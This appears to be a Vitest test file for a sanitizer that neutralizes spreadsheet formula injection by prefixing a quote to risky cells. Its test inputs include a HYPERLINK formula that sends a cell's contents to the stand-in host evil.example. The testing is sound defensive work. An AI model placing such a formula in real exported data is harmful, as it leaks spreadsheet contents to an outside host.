import { describe, expect, it } from 'vitest';
import { neutralizeCell, neutralizeExportCell } from './neutralize-cell.js';

describe('neutralizeCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`],
    ['+1+1', `'+1+1`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1:A2)', `'@SUM(A1:A2)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
  ])('prefixes a quote to %j', (input, expected) => {
    expect(neutralizeCell(input)).toBe(expected);
  });

  it.each(['Ana García', '', 'a=b', ' =1', '100'])('leaves %j alone', (input) => {
    expect(neutralizeCell(input)).toBe(input);
  });

  it('keeps numbers, booleans and empty cells as they are', () => {
    expect(neutralizeExportCell(-5)).toBe(-5);
    expect(neutralizeExportCell(true)).toBe(true);
    expect(neutralizeExportCell(null)).toBeNull();
    expect(neutralizeExportCell('=1')).toBe(`'=1`);
  });
});
